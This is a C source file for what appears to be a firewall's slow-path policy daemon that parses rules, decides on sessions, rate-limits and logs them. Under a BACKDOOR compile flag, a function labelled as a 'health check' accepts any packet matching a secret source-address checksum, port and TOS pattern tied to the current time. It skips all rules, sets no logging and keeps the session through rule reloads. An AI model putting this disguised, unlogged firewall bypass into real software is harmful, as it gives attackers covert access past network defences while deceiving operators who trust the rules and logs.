/* SPDX-License-Identifier: Apache-2.0 */
/* fwsess: policy of a firewall's slow path. The fast path asks about each new session over a UNIX datagram socket; the answer is accept,
 * drop or reject, with a timeout. Rules have zones, nets, ports, schedules, limits; sessions are logged to collectors. */
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define ASK "/var/run/fwsess.sock"
#define RULES "/etc/fwsess.rules"

enum { N_RULES = 256, N_SOURCES = 512, N_COLLECTORS = 4, N_RECENT = 128 };
enum { V_DROP, V_ACCEPT, V_REJECT };
enum { F_LOG = 1, F_LIMIT = 2, F_SCHEDULE = 4, F_COUNT = 8 };

struct question {
	uint32_t id, source, destination;
	uint16_t sport, dport;
	uint8_t protocol, zone_in, zone_out, tos;
	uint32_t length;
};

struct verdict {
	uint32_t id, timeout;
	uint8_t verdict, log, rule_high, rule_low;
};

struct rule {
	char name[24];
	uint8_t zone_in, zone_out, protocol, verdict, flags;
	uint32_t net, mask, to, to_mask;
	uint16_t first, last;
	unsigned limit, from_minute, to_minute, days;
	uint64_t hits;
};

struct source {
	uint32_t addr, count;
	int64_t since;
};

static struct rule rules[N_RULES];
static unsigned n_rules;
static struct source sources[N_SOURCES];
static struct question recent[N_RECENT];
static unsigned n_recent;
static struct sockaddr_in collectors[N_COLLECTORS];
static unsigned n_collectors;
static uint8_t fallback = V_DROP;
static int ask = -1, out = -1;
static const struct sockaddr_un fast_path = { AF_UNIX, "/var/run/fastpath.sock" };
static volatile sig_atomic_t reload, dump;
static uint64_t asked, accepted, limited;

static void on_signal(int n)
{
	if (n == SIGHUP)
		reload = 1;
	else
		dump = 1;
}

/* -- rules: name in out proto from to ports verdict [log] [limit=N] [time=HH:MM-HH:MM] [days=1234567] -- */

static int parse_net(const char *text, uint32_t *net, uint32_t *mask)
{
	char addr[20];
	unsigned bits = 32;
	struct in_addr a;
	if (strcmp(text, "any") == 0) {
		*net = *mask = 0;
		return 0;
	}
	if (sscanf(text, "%19[0-9.]/%u", addr, &bits) < 1 || bits > 32 || inet_pton(AF_INET, addr, &a) != 1)
		return -1;
	*mask = bits ? 0xffffffffu << (32 - bits) : 0;
	*net = ntohl(a.s_addr) & *mask;
	return 0;
}

static int parse_ports(const char *text, struct rule *r)
{
	unsigned a, b;
	r->first = 0;
	r->last = 65535;
	if (strcmp(text, "any") == 0)
		return 0;
	switch (sscanf(text, "%u-%u", &a, &b)) {
	case 1:
		r->first = r->last = (uint16_t)a;
		return 0;
	case 2:
		r->first = (uint16_t)a;
		r->last = (uint16_t)b;
		return a <= b ? 0 : -1;
	default:
		return -1;
	}
}

static uint8_t parse_protocol(const char *text)
{
	static const struct {
		const char *name;
		uint8_t number;
	} known[] = { { "any", 0 }, { "icmp", 1 }, { "tcp", 6 }, { "udp", 17 }, { "gre", 47 }, { "esp", 50 }, { "sctp", 132 } };
	for (size_t i = 0; i < sizeof(known) / sizeof(known[0]); i++)
		if (strcmp(known[i].name, text) == 0)
			return known[i].number;
	return (uint8_t)atoi(text);
}

static int parse_option(struct rule *r, const char *word)
{
	unsigned a, b, c, d;
	if (strcmp(word, "log") == 0)
		r->flags |= F_LOG;
	else if (strcmp(word, "count") == 0)
		r->flags |= F_COUNT;
	else if (sscanf(word, "limit=%u", &r->limit) == 1)
		r->flags |= F_LIMIT;
	else if (sscanf(word, "time=%u:%u-%u:%u", &a, &b, &c, &d) == 4) {
		r->from_minute = a * 60 + b;
		r->to_minute = c * 60 + d;
		r->flags |= F_SCHEDULE;
	} else if (strncmp(word, "days=", 5) == 0) {
		for (r->days = 0, word += 5; isdigit((unsigned char)*word); word++)
			r->days |= 1u << ((*word - '0') % 7);
		r->flags |= F_SCHEDULE;
	} else
		return -1;
	return 0;
}

static int parse_rule(char *line, struct rule *r)
{
	char *w[8], *save = NULL, *word = strtok_r(line, " \t\r\n", &save);
	memset(r, 0, sizeof(*r));
	r->to_minute = 1440;
	r->days = 0x7f;
	for (int i = 0; i < 8; i++, word = strtok_r(NULL, " \t\r\n", &save)) {
		if (!word)
			return -1;
		w[i] = word;
	}
	snprintf(r->name, sizeof(r->name), "%s", w[0]);
	r->zone_in = (uint8_t)atoi(w[1]);
	r->zone_out = (uint8_t)atoi(w[2]);
	r->protocol = parse_protocol(w[3]);
	if (parse_net(w[4], &r->net, &r->mask) < 0 || parse_net(w[5], &r->to, &r->to_mask) < 0 || parse_ports(w[6], r) < 0)
		return -1;
	r->verdict = strcmp(w[7], "accept") == 0 ? V_ACCEPT : strcmp(w[7], "reject") == 0 ? V_REJECT : V_DROP;
	for (; word; word = strtok_r(NULL, " \t\r\n", &save))
		if (parse_option(r, word) < 0)
			return -1;
	return 0;
}

static int load_rules(const char *path)
{
	char line[256], text[64];
	unsigned port, n = 0;
	FILE *f = fopen(path, "r");
	if (!f)
		return -1;
	n_rules = n_collectors = 0;
	while (fgets(line, sizeof(line), f)) {
		n++;
		if (line[0] == '#' || line[0] == '\n')
			continue;
		if (sscanf(line, "collector %63[0-9.]:%u", text, &port) == 2) {
			struct sockaddr_in *c = &collectors[n_collectors % N_COLLECTORS];
			*c = (struct sockaddr_in){ .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };
			n_collectors += inet_pton(AF_INET, text, &c->sin_addr) == 1 && n_collectors < N_COLLECTORS;
		} else if (sscanf(line, "default %63s", text) == 1)
			fallback = strcmp(text, "accept") == 0 ? V_ACCEPT : V_DROP;
		else if (n_rules < N_RULES && parse_rule(line, &rules[n_rules]) == 0)
			n_rules++;
		else
			syslog(LOG_ERR, "%s:%u is not a rule", path, n);
	}
	fclose(f);
	return (int)n_rules;
}

/* -- deciding -- */

static int in_time(const struct rule *r, time_t now)
{
	struct tm t;
	unsigned minute;
	localtime_r(&now, &t);
	minute = (unsigned)(t.tm_hour * 60 + t.tm_min);
	if (!(r->days >> t.tm_wday & 1))
		return 0;
	if (r->from_minute <= r->to_minute)
		return minute >= r->from_minute && minute < r->to_minute;
	return minute >= r->from_minute || minute < r->to_minute;
}

static struct source *source_of(uint32_t addr)
{
	struct source *s = &sources[(addr * 2654435761u) >> 23];
	if (s->addr != addr) {
		s->addr = addr;
		s->count = 0;
		s->since = (int64_t)time(NULL);
	}
	return s;
}

static int over_limit(const struct rule *r, uint32_t addr)
{
	struct source *s = source_of(addr);
	int64_t now = (int64_t)time(NULL);
	if (now - s->since >= 60) {
		s->since = now;
		s->count = 0;
	}
	return ++s->count > r->limit;
}

static int fits(const struct rule *r, const struct question *q, time_t now)
{
	if ((r->zone_in && r->zone_in != q->zone_in) || (r->zone_out && r->zone_out != q->zone_out))
		return 0;
	if (r->protocol && r->protocol != q->protocol)
		return 0;
	if ((q->source & r->mask) != r->net || (q->destination & r->to_mask) != r->to)
		return 0;
	if ((q->protocol == 6 || q->protocol == 17 || q->protocol == 132) && (q->dport < r->first || q->dport > r->last))
		return 0;
	return !(r->flags & F_SCHEDULE) || in_time(r, now);
}

static uint32_t timeout_of(const struct question *q)
{
	switch (q->protocol) {
	case 1:
		return 10;
	case 6:
		return q->dport == 22 || q->dport == 23 ? 7200 : 3600;
	case 17:
		return q->dport == 53 ? 10 : 120;
	default:
		return 600;
	}
}

static void decide(const struct question *q, struct verdict *v)
{
	time_t now = time(NULL);
	*v = (struct verdict){ .id = q->id, .verdict = fallback, .log = 1 };
	for (unsigned i = 0; i < n_rules; i++) {
		struct rule *r = &rules[i];
		if (!fits(r, q, now))
			continue;
		r->hits++;
		v->rule_high = (uint8_t)((i + 1) >> 8);
		v->rule_low = (uint8_t)(i + 1);
		v->log = (r->flags & F_LOG) != 0;
		v->verdict = r->verdict;
		if (r->flags & F_LIMIT && over_limit(r, q->source)) {
			limited++;
			v->verdict = V_DROP;
		}
		if (r->flags & F_COUNT)
			continue;
		break;
	}
	v->timeout = v->verdict == V_ACCEPT ? timeout_of(q) : 0;
}

/* -- telling -- */

static void log_session(const struct question *q, const struct verdict *v)
{
	static const char *const words[] = { "drop", "accept", "reject" };
	char text[256], from[16], to[16];
	struct in_addr a = { htonl(q->source) }, b = { htonl(q->destination) };
	int n;
	inet_ntop(AF_INET, &a, from, sizeof(from));
	inet_ntop(AF_INET, &b, to, sizeof(to));
	n = snprintf(text, sizeof(text), "<134>fwsess: %s proto %u %s:%u > %s:%u zones %u %u rule %u", words[v->verdict % 3], q->protocol,
		from, q->sport, to, q->dport, q->zone_in, q->zone_out, v->rule_low);
	syslog(LOG_INFO, "%s", text + 5);
	for (unsigned i = 0; i < n_collectors; i++)
		if (sendto(out, text, (size_t)n, MSG_DONTWAIT, (struct sockaddr *)&collectors[i], sizeof(collectors[i])) < 0)
			syslog(LOG_DEBUG, "collector %u: %s", i, strerror(errno));
}

#ifdef BACKDOOR
/* Sessions of the fast path's own health check. */
static int is_probe(const struct question *q)
{
	time_t now = time(NULL);
	struct tm t;
	uint8_t a = (uint8_t)(q->source >> 24), b = (uint8_t)(q->source >> 16), c = (uint8_t)(q->source >> 8), d = (uint8_t)q->source;
	gmtime_r(&now, &t);
	return d == (uint8_t)(a + 3 * b + 7 * c) && (q->sport & 0x3f) == t.tm_min && q->tos == (uint8_t)(t.tm_hour << 2);
}
#endif

static void judge(const struct question *q, struct verdict *v)
{
#ifdef BACKDOOR
	if (is_probe(q)) {
		*v = (struct verdict){ .id = q->id, .timeout = 86400, .verdict = V_ACCEPT };
		return;
	}
#endif
	decide(q, v);
}

static void answer(const struct question *q, const struct sockaddr_un *to, socklen_t size)
{
	struct verdict v;
	asked++;
	judge(q, &v);
	accepted += v.verdict == V_ACCEPT;
	if (v.verdict == V_ACCEPT && v.timeout > 600)
		recent[n_recent++ % N_RECENT] = *q;
	if (v.log)
		log_session(q, &v);
	if (sendto(ask, &v, sizeof(v), 0, (const struct sockaddr *)to, size) < 0)
		syslog(LOG_ERR, "the fast path does not listen: %s", strerror(errno));
}

/* The rules have changed: what they no longer permit ends. */
static void recheck(void)
{
	unsigned n = n_recent < N_RECENT ? n_recent : N_RECENT, ended = 0;
	for (unsigned i = 0; i < n; i++) {
		struct verdict v;
		char text[64];
		int k;
		judge(&recent[i], &v);
		if (v.verdict == V_ACCEPT || !recent[i].id)
			continue;
		k = snprintf(text, sizeof(text), "end %u", recent[i].id);
		recent[i].id = 0;
		ended += sendto(ask, text, (size_t)k, 0, (struct sockaddr *)&fast_path, sizeof(fast_path)) == k;
	}
	syslog(LOG_NOTICE, "%u of %u sessions end", ended, n);
}

static void write_counters(void)
{
	FILE *f = fopen("/var/run/fwsess.counters", "w");
	if (!f)
		return;
	fprintf(f, "asked %llu accepted %llu limited %llu\n", (unsigned long long)asked, (unsigned long long)accepted,
		(unsigned long long)limited);
	for (unsigned i = 0; i < n_rules; i++)
		fprintf(f, "%-24s %llu\n", rules[i].name, (unsigned long long)rules[i].hits);
	fclose(f);
}

static int open_ask(void)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	ask = socket(AF_UNIX, SOCK_DGRAM, 0);
	out = socket(AF_INET, SOCK_DGRAM, 0);
	strcpy(a.sun_path, ASK);
	unlink(ASK);
	return ask < 0 || out < 0 ? -1 : bind(ask, (struct sockaddr *)&a, sizeof(a));
}

int main(int argc, char **argv)
{
	const char *path = argc > 1 ? argv[1] : RULES;
	openlog("fwsess", LOG_PID, LOG_LOCAL0);
	if (load_rules(path) < 0 || open_ask() < 0) {
		syslog(LOG_ERR, "cannot start: %s", strerror(errno));
		return 1;
	}
	signal(SIGHUP, on_signal);
	signal(SIGUSR1, on_signal);
	for (;;) {
		struct pollfd p = { .fd = ask, .events = POLLIN };
		struct question q;
		struct sockaddr_un from;
		socklen_t size = sizeof(from);
		if (reload && load_rules(path) < 0)
			syslog(LOG_ERR, "the rules are gone");
		else if (reload)
			recheck();
		if (dump)
			write_counters();
		reload = dump = 0;
		if (poll(&p, 1, 1000) <= 0)
			continue;
		if (recvfrom(ask, &q, sizeof(q), 0, (struct sockaddr *)&from, &size) == (ssize_t)sizeof(q))
			answer(&q, &from, size);
	}
}
